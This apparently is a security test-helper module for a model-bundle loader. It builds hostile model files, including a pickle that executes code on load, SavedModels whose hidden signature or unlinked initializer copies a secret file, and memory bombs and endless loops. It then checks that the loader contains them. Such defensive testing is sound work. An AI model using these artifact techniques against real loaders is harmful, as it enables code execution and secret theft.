"""Hostile artifacts, built as an attacker who controls every byte of a bundle would: each builder writes a file
that its runtime accepts (or that exhausts it), and :func:`swap` puts it into a copy of a real bundle with the
manifest re-hashed to match, so that integrity checks pass and only the audits, the sandbox and the limits stand
between the file and the machine.

Every SavedModel here takes ``features: float32[None, 10]`` and returns ``probabilities: float32[None, 3]``, the
signature of the session's bundles, so that a loader gets as far as the attacker wants it to.
"""
from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import numpy as np

import kerasio
from kerasio.bundle.fsutil import hash_artifact

ROOT = Path(__file__).resolve().parent.parent
SECRET_NAME, SECRET = "MY_SECRET_TOKEN", "s3cr3t-Zq7xK"  # set in the environment of every entry point tried


# -- bundles ---------------------------------------------------------------------------------------------------

def rehash(bundle: Path, fmt: str) -> None:
    """Record the (altered) artifact's current hashes in the manifest: integrity passes, the loader decides."""
    manifest = json.loads((bundle / "kerasio.json").read_text())
    art = next(a for a in manifest["artifacts"] if a["format"] == fmt)
    art["sha256"], art["size"], art["files"] = hash_artifact(bundle / art["path"])
    (bundle / "kerasio.json").write_text(json.dumps(manifest))


def swap(bundle: Path, fmt: str, build: Callable[[Path], Any]) -> Path:
    """Replace ``fmt``'s artifact in ``bundle`` by what ``build(path)`` writes there, and re-hash the manifest."""
    target = bundle / kerasio.read_manifest(bundle).artifact(fmt).path
    if target.is_dir():
        shutil.rmtree(target)
    else:
        target.unlink()
    build(target)
    rehash(bundle, fmt)
    return bundle


def edit_manifest(bundle: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    data = json.loads((bundle / "kerasio.json").read_text())
    change(data)
    (bundle / "kerasio.json").write_text(json.dumps(data))
    return bundle


def add_pickle(bundle: Path, code: str) -> Path:
    """Add a ``pickle`` artifact whose unpickling runs ``code`` (with ``exec``), re-hashed into the manifest."""
    import pickle

    class Payload:
        def __reduce__(self):
            return (exec, (code,))

    path = bundle / "model.pkl"
    path.write_bytes(pickle.dumps(Payload()))
    digest, size, _ = hash_artifact(path)
    return edit_manifest(bundle, lambda m: m["artifacts"].append(
        {"format": "pickle", "path": "model.pkl", "size": size, "sha256": digest}))


# -- SavedModels -------------------------------------------------------------------------------------------------

def _module(serve_body: Callable[[Any, Any], Any], extra: Callable[[Any], None] | None = None) -> Any:
    import tensorflow as tf

    class Hostile(tf.Module):
        def __init__(self):
            super().__init__()
            self.w = tf.Variable(tf.ones([10, 3]))
            if extra is not None:
                extra(self)

        @tf.function(input_signature=[tf.TensorSpec([None, 10], tf.float32, name="features")])
        def serve(self, features):
            return {"probabilities": serve_body(self, features)}

    return Hostile()


def _edit_pb(path: Path, change: Callable[[Any], None]) -> None:
    from tensorflow.core.protobuf import saved_model_pb2

    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((path / "saved_model.pb").read_bytes())
    change(proto)
    (path / "saved_model.pb").write_bytes(proto.SerializeToString())


def sm_object_graph_bypass(dest: Path, canary: Path, secret: Path) -> None:
    """``signature_def`` names a benign function; the object graph's ``serving_default`` (what
    ``tf.saved_model.load(...).signatures`` calls) reads ``secret`` and writes ``canary``."""
    import tensorflow as tf

    class Module(tf.Module):
        def __init__(self):
            super().__init__()
            self.w = tf.Variable(tf.ones([10, 3]))

        @tf.function(input_signature=[tf.TensorSpec([None, 10], tf.float32, name="features")])
        def serve(self, features):
            return {"probabilities": tf.nn.softmax(features @ self.w)}

        @tf.function(input_signature=[tf.TensorSpec([None, 10], tf.float32, name="features")])
        def evil(self, features):
            with tf.control_dependencies([tf.io.write_file(str(canary), tf.io.read_file(str(secret)))]):
                return {"probabilities": tf.nn.softmax(features @ self.w)}

    module = Module()
    tf.saved_model.save(module, str(dest), signatures={"serving_default": module.evil, "benign": module.serve})

    def hide(proto: Any) -> None:
        defs = proto.meta_graphs[0].signature_def
        defs["serving_default"].CopyFrom(defs["benign"])
        del defs["benign"]

    _edit_pb(dest, hide)


def sm_unlinked_initializer(dest: Path, canary: Path, secret: Path) -> None:
    """A restored resource whose ``_initialize`` reads ``secret`` and writes ``canary``; its link from the init op is
    removed. TensorFlow's loader still calls it at load."""
    import tensorflow as tf

    class Evil(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.string)

        def _initialize(self):
            return tf.io.write_file(str(canary), tf.io.read_file(str(secret)))

    module = _module(lambda self, x: tf.nn.softmax(x @ self.w), extra=lambda self: setattr(self, "evil", Evil()))
    tf.saved_model.save(module, str(dest), signatures={"serving_default": module.serve})

    def unlink(proto: Any) -> None:
        meta = proto.meta_graphs[0]
        name = meta.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name.split(":")[0]
        del next(n for n in meta.graph_def.node if n.name == name).input[:]

    _edit_pb(dest, unlink)


def sm_serving(dest: Path, body: Callable[[Any, Any], Any]) -> None:
    """A SavedModel whose ``serving_default`` runs ``body(module, features)`` (whatever ops it uses)."""
    import tensorflow as tf

    module = _module(body)
    tf.saved_model.save(module, str(dest), signatures={"serving_default": module.serve})


def sm_while_forever(dest: Path) -> None:
    """``serving_default`` loops forever (a While the allowlist accepts: only a time limit can stop it)."""
    import tensorflow as tf

    def body(self, x):
        n = tf.while_loop(lambda i: i >= 0, lambda i: i + tf.constant(0, tf.int64), [tf.constant(0, tf.int64)])
        return tf.nn.softmax(x @ self.w) + 0.0 * tf.cast(n, tf.float32)

    sm_serving(dest, body)


def sm_fill_at_run_time(dest: Path) -> None:
    """``serving_default`` fills a tensor whose size is computed from the input (~12 GB): no audit can see it."""
    import tensorflow as tf

    def body(self, x):
        n = tf.cast(tf.reduce_sum(x) * 0.0 + 3e9, tf.int64)
        big = tf.fill(tf.reshape(n, [1]), 1.0)
        return tf.nn.softmax(x @ self.w) + tf.reduce_sum(big) * 0.0

    sm_serving(dest, body)


def sm_read_file(dest: Path, name: str) -> None:
    """``serving_default`` returns the length of a file's contents in its outputs (needs ``--allow-op ReadFile``)."""
    import tensorflow as tf

    def body(self, x):
        text = tf.io.read_file(name)
        return tf.nn.softmax(x @ self.w) + 0.0 * tf.cast(tf.strings.length(text), tf.float32)

    sm_serving(dest, body)


def sm_splat(dest: Path) -> None:
    """A constant in a function that declares 8 GiB from one value (a splat TensorFlow would materialize)."""
    import tensorflow as tf

    sm_serving(dest, lambda self, x: tf.nn.softmax(x @ self.w))

    def splat(proto: Any) -> None:
        fn = next(f for f in proto.meta_graphs[0].graph_def.library.function if "serve" in f.signature.name)
        const = fn.node_def.add(name="splat", op="Const")
        const.attr["dtype"].type = 1  # DT_FLOAT
        value = const.attr["value"].tensor
        value.dtype = 1
        value.float_val.append(1.0)
        for size in (1 << 16, 1 << 15):
            value.tensor_shape.dim.add().size = size

    _edit_pb(dest, splat)


def sm_fill_constant(dest: Path) -> None:
    """``Fill`` with a constant shape of 10^10 elements."""
    import tensorflow as tf

    sm_serving(dest, lambda self, x: tf.nn.softmax(x @ self.w) + tf.reduce_sum(tf.fill([100_000, 100_000], 1.0)) * 0.0)


def sm_recursive(dest: Path) -> None:
    """The serving function calls itself (TensorFlow would recurse until it crashed)."""
    import tensorflow as tf

    sm_serving(dest, lambda self, x: tf.nn.softmax(x @ self.w))

    def recurse(proto: Any) -> None:
        fn = next(f for f in proto.meta_graphs[0].graph_def.library.function if "serve" in f.signature.name)
        call = fn.node_def.add(name="again", op="PartitionedCall")
        call.attr["f"].func.name = fn.signature.name

    _edit_pb(dest, recurse)


def sm_saver_prefix(dest: Path, target: Path) -> None:
    """The saver's restore function reads ``target`` (a path written into the graph), not the loader's prefix."""
    import tensorflow as tf

    sm_serving(dest, lambda self, x: tf.nn.softmax(x @ self.w))

    def redirect(proto: Any) -> None:
        fn = next(f for f in proto.meta_graphs[0].graph_def.library.function if "traced_restore" in f.signature.name)
        restore = next(n for n in fn.node_def if n.op == "RestoreV2")
        const = fn.node_def.add(name="elsewhere", op="Const")
        const.attr["dtype"].type = 7  # DT_STRING
        value = const.attr["value"].tensor
        value.dtype = 7
        value.string_val.append(str(target).encode())
        restore.input[0] = "elsewhere:output:0"

    _edit_pb(dest, redirect)


# -- ONNX --------------------------------------------------------------------------------------------------------

def _onnx(nodes: list[Any], initializers: list[Any] = (), *, outputs: list[Any] | None = None,
          functions: list[Any] = (), opsets: list[Any] | None = None) -> Any:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("features", TensorProto.FLOAT, ["N", 10])
    y = outputs or [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, ["N", 3])]
    graph = helper.make_graph(nodes, "hostile", [x], y, initializer=list(initializers))
    return helper.make_model(graph, opset_imports=opsets or [helper.make_opsetid("", 17)], functions=list(functions))


def _slice3() -> list[Any]:
    """``probabilities = softmax(features[:, :3])`` and the initializers it needs."""
    from onnx import helper, numpy_helper

    inits = [numpy_helper.from_array(np.array([0], np.int64), "s0"),
             numpy_helper.from_array(np.array([3], np.int64), "s3"),
             numpy_helper.from_array(np.array([1], np.int64), "ax")]
    nodes = [helper.make_node("Slice", ["features", "s0", "s3", "ax"], ["head"]),
             helper.make_node("Softmax", ["head"], ["soft"], axis=1)]
    return nodes, inits


def onnx_save(model: Any, dest: Path) -> None:
    import onnx

    onnx.save(model, str(dest))


def onnx_constant_of_shape(dest: Path) -> None:
    """``ConstantOfShape`` of a constant shape of 10^11 floats, summed into the output."""
    from onnx import helper, numpy_helper

    nodes, inits = _slice3()
    inits.append(numpy_helper.from_array(np.array([100_000, 1_000_000], np.int64), "huge"))
    nodes += [helper.make_node("ConstantOfShape", ["huge"], ["bomb"]),
              helper.make_node("ReduceSum", ["bomb"], ["total"], keepdims=0),
              helper.make_node("Mul", ["total", "zero"], ["nothing"]),
              helper.make_node("Add", ["soft", "nothing"], ["probabilities"])]
    inits.append(numpy_helper.from_array(np.array(0.0, np.float32), "zero"))
    onnx_save(_onnx(nodes, inits), dest)


def onnx_sparse_bomb(dest: Path) -> None:
    """A sparse initializer of one value whose dense form is 10^12 floats (onnxruntime densifies it at load)."""
    from onnx import TensorProto, helper

    nodes, inits = _slice3()
    nodes.append(helper.make_node("Identity", ["soft"], ["probabilities"]))
    model = _onnx(nodes, inits)
    values = helper.make_tensor("sparse_values", TensorProto.FLOAT, [1], [1.0])
    indices = helper.make_tensor("sparse_indices", TensorProto.INT64, [1], [0])
    model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [1_000_000, 1_000_000]))
    onnx_save(model, dest)


def onnx_loop_forever(dest: Path) -> None:
    """A ``Loop`` with no trip count whose condition stays true: only a time limit stops it."""
    from onnx import TensorProto, helper, numpy_helper

    nodes, inits = _slice3()
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
        "forever", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                    helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                    helper.make_tensor_value_info("v_in", TensorProto.FLOAT, ["N", 3])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, ["N", 3])])
    inits.append(numpy_helper.from_array(np.array(True), "yes"))
    nodes.append(helper.make_node("Loop", ["", "yes", "soft"], ["probabilities"], body=body))
    onnx_save(_onnx(nodes, inits), dest)


def onnx_custom_op(dest: Path) -> None:
    """A node of a custom domain (onnxruntime would look for a native kernel library)."""
    from onnx import helper

    nodes, inits = _slice3()
    nodes.append(helper.make_node("Exfiltrate", ["soft"], ["probabilities"], domain="com.attacker"))
    onnx_save(_onnx(nodes, inits, opsets=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker", 1)]), dest)


def onnx_recursive_function(dest: Path) -> None:
    """A local function that calls itself (onnxruntime would inline it forever)."""
    from onnx import helper

    nodes, inits = _slice3()
    nodes.append(helper.make_node("Loopy", ["soft"], ["probabilities"], domain="local"))
    fn = helper.make_function("local", "Loopy", ["a"], ["b"], [helper.make_node("Loopy", ["a"], ["b"], domain="local")],
                              [helper.make_opsetid("", 17)])
    onnx_save(_onnx(nodes, inits, functions=[fn], opsets=[helper.make_opsetid("", 17),
                                                          helper.make_opsetid("local", 1)]), dest)


def onnx_many_initializers(dest: Path, count: int = 150_000) -> None:
    """Very many tiny initializers (onnxruntime takes minutes to build such a session)."""
    from onnx import helper, numpy_helper

    nodes, inits = _slice3()
    nodes.append(helper.make_node("Identity", ["soft"], ["probabilities"]))
    one = np.array([1.0], np.float32)
    inits += [numpy_helper.from_array(one, f"pad_{i}") for i in range(count)]
    onnx_save(_onnx(nodes, inits), dest)


def onnx_wider_output(dest: Path) -> None:
    """``probabilities`` with 5 columns where the signature (and the class names) say 3."""
    from onnx import TensorProto, helper, numpy_helper

    inits = [numpy_helper.from_array(np.array([0], np.int64), "s0"),
             numpy_helper.from_array(np.array([5], np.int64), "s5"),
             numpy_helper.from_array(np.array([1], np.int64), "ax")]
    nodes = [helper.make_node("Slice", ["features", "s0", "s5", "ax"], ["head"]),
             helper.make_node("Softmax", ["head"], ["probabilities"], axis=1)]
    out = [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, ["N", 5])]
    onnx_save(_onnx(nodes, inits, outputs=out), dest)


# -- LiteRT ------------------------------------------------------------------------------------------------------

def _tflite(src: Path) -> tuple[Any, Any]:
    from ai_edge_litert import schema_py_generated as schema

    return schema, schema.ModelT.InitFromPackedBuf(bytearray(src.read_bytes()), 0)


def _tflite_write(model: Any, dest: Path) -> None:
    import flatbuffers

    builder = flatbuffers.Builder(1024)
    builder.Finish(model.Pack(builder), file_identifier=b"TFL3")
    dest.write_bytes(builder.Output())


def _opcode(schema: Any, model: Any, code: int) -> int:
    entry = schema.OperatorCodeT()
    entry.builtinCode, entry.deprecatedBuiltinCode, entry.version = code, min(code, 127), 1
    model.operatorCodes.append(entry)
    return len(model.operatorCodes) - 1


def tflite_while_self(src: Path, dest: Path) -> None:
    """A ``WHILE`` in the main subgraph whose condition and body are the main subgraph itself."""
    schema, model = _tflite(src)
    op = schema.OperatorT()
    op.opcodeIndex = _opcode(schema, model, schema.BuiltinOperator.WHILE)
    main = model.subgraphs[0]
    op.inputs, op.outputs = [main.inputs[0]], [main.inputs[0]]
    options = schema.WhileOptionsT()
    options.condSubgraphIndex = options.bodySubgraphIndex = 0
    op.builtinOptionsType, op.builtinOptions = schema.BuiltinOptions.WhileOptions, options
    main.operators.insert(0, op)
    _tflite_write(model, dest)


def tflite_signature_out_of_range(src: Path, dest: Path) -> None:
    """The signature's input names tensor 9999 of a subgraph that has 10."""
    _schema, model = _tflite(src)
    model.signatureDefs[0].inputs[0].tensorIndex = 9999
    _tflite_write(model, dest)


def tflite_custom_op(src: Path, dest: Path) -> None:
    """An operator whose code is a custom op (a Flex or attacker kernel)."""
    schema, model = _tflite(src)
    model.operatorCodes[model.subgraphs[0].operators[0].opcodeIndex].builtinCode = schema.BuiltinOperator.CUSTOM
    model.operatorCodes[model.subgraphs[0].operators[0].opcodeIndex].deprecatedBuiltinCode = \
        schema.BuiltinOperator.CUSTOM
    model.operatorCodes[model.subgraphs[0].operators[0].opcodeIndex].customCode = b"FlexWriteFile"
    _tflite_write(model, dest)


def tflite_while_long(src: Path, dest: Path) -> None:
    """A valid ``WHILE`` that counts to 2**31 - 1 before the model's own ops run: only a time limit stops it."""
    schema, model = _tflite(src)
    B, T = schema.BuiltinOperator, schema.TensorType

    def tensor(sub: Any, name: str, dtype: int, data: bytes | None = None) -> int:
        buffer = schema.BufferT()
        buffer.data = None if data is None else list(np.frombuffer(data, np.uint8))
        model.buffers.append(buffer)
        t = schema.TensorT()
        t.name, t.shape, t.type, t.buffer = name.encode(), [], dtype, len(model.buffers) - 1
        sub.tensors.append(t)
        return len(sub.tensors) - 1

    def op(code: int, ins: list[int], outs: list[int], kind: int | None = None, options: Any = None) -> Any:
        o = schema.OperatorT()
        o.opcodeIndex, o.inputs, o.outputs = _opcode(schema, model, code), ins, outs
        if options is not None:
            o.builtinOptionsType, o.builtinOptions = kind, options
        return o

    cond, body = schema.SubGraphT(), schema.SubGraphT()
    cond.tensors, body.tensors, cond.name, body.name = [], [], b"cond", b"body"
    c, limit, keep = tensor(cond, "c", T.INT32), tensor(cond, "limit", T.INT32, np.int32(2**31 - 1).tobytes()), \
        tensor(cond, "keep", T.BOOL)
    cond.inputs, cond.outputs, cond.operators = [c], [keep], [op(B.LESS, [c, limit], [keep])]
    x, one, y = tensor(body, "x", T.INT32), tensor(body, "one", T.INT32, np.int32(1).tobytes()), tensor(body, "y", T.INT32)
    body.inputs, body.outputs = [x], [y]
    body.operators = [op(B.ADD, [x, one], [y], schema.BuiltinOptions.AddOptions, schema.AddOptionsT())]
    main = model.subgraphs[0]
    start, done = tensor(main, "start", T.INT32, np.int32(0).tobytes()), tensor(main, "done", T.INT32)
    options = schema.WhileOptionsT()
    options.condSubgraphIndex, options.bodySubgraphIndex = len(model.subgraphs), len(model.subgraphs) + 1
    main.operators.insert(0, op(B.WHILE, [start], [done], schema.BuiltinOptions.WhileOptions, options))
    model.subgraphs += [cond, body]
    _tflite_write(model, dest)


# -- Keras files -------------------------------------------------------------------------------------------------

def keras_with_config(src: Path, dest: Path, change: Callable[[dict[str, Any]], Any]) -> Path:
    """A copy of the ``.keras`` archive ``src`` whose ``config.json`` ``change`` edited (weights untouched)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "config.json":
                config = json.loads(data)
                replaced = change(config)  # edits the config in place, or returns the raw text to store instead
                data = json.dumps(config).encode() if replaced is None else \
                    replaced.encode() if isinstance(replaced, str) else replaced
            zout.writestr(info, data)
    return dest


def layers_of(config: dict[str, Any]) -> list[dict[str, Any]]:
    return config["config"]["layers"]


def first_dense(config: dict[str, Any]) -> dict[str, Any]:
    return next(layer for layer in layers_of(config) if layer["class_name"] == "Dense")


def keras_h5_shape_bomb(src: Path, dest: Path) -> Path:
    """The archive's ``model.weights.h5`` with one kernel replaced by a dataset that declares 40 GB and stores nothing."""
    import h5py

    tmp = dest.with_suffix(".weights.h5")
    with zipfile.ZipFile(src) as zin:
        tmp.write_bytes(zin.read("model.weights.h5"))
    with h5py.File(tmp, "a") as f:
        names: list[str] = []
        f.visititems(lambda name, item: names.append(name) if isinstance(item, h5py.Dataset) and len(item.shape) == 2
                     else None)
        del f[names[0]]
        f.create_dataset(names[0], shape=(100_000, 100_000), dtype="float32", fillvalue=0.0)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, tmp.read_bytes() if info.filename == "model.weights.h5" else zin.read(info))
    tmp.unlink()
    return dest


# -- running an entry point, as a user would --------------------------------------------------------------------

@dataclass
class Outcome:
    code: int
    out: str
    err: str
    seconds: float


def cli(*args: str, env: dict[str, str] | None = None, timeout: float = 300) -> Outcome:
    """``kerasio ARGS`` in a fresh process group with the secret in its environment; the whole group is killed at
    ``timeout`` (a test's limit, far above kerasio's own)."""
    return clis([list(args)], env=env, timeout=timeout)[0]


def clis(commands: list[list[str]], *, env: dict[str, str] | None = None, timeout: float = 300) -> list[Outcome]:
    """Several ``kerasio`` commands at once (each in its own process group), as :func:`cli` runs one."""
    full = {**os.environ, SECRET_NAME: SECRET, "TF_CPP_MIN_LOG_LEVEL": "3", **(env or {})}
    start = time.monotonic()
    procs = [subprocess.Popen([sys.executable, "-m", "kerasio", *args], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, env=full, cwd=ROOT, start_new_session=True)
             for args in commands]
    results = []
    for args, proc in zip(commands, procs):
        try:
            out, err = proc.communicate(timeout=max(timeout - (time.monotonic() - start), 1))
        except subprocess.TimeoutExpired:
            for other in procs:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(other.pid, signal.SIGKILL)
            out, err = proc.communicate()
            raise AssertionError(f"kerasio {' '.join(args)} hung past {timeout} s; stderr: {err[-2000:]}") from None
        results.append(Outcome(proc.returncode, out, err, time.monotonic() - start))
    return results


def assert_contained(result: Outcome, *, codes: tuple[int, ...] = (1, 2), canary: Path | None = None,
                     within: float | None = None, message: str | None = None) -> None:
    """The promises, for one run: a kerasio error in one line, no traceback, no canary, no secret, in time."""
    text = result.out + result.err
    assert result.code in codes, (result.code, result.err[-3000:])
    assert "Traceback" not in text, result.err[-3000:]
    assert SECRET not in text
    if result.code == 2:
        lines = [line for line in result.err.splitlines() if line.startswith("kerasio: error: ")]
        assert len(lines) == 1, result.err[-3000:]
        if message is not None:
            import re

            assert re.search(message, lines[0]), lines[0]
    if canary is not None:
        assert not canary.exists(), f"the canary {canary} was written"
    if within is not None:
        assert result.seconds <= within, f"took {result.seconds:.1f} s, over {within} s"
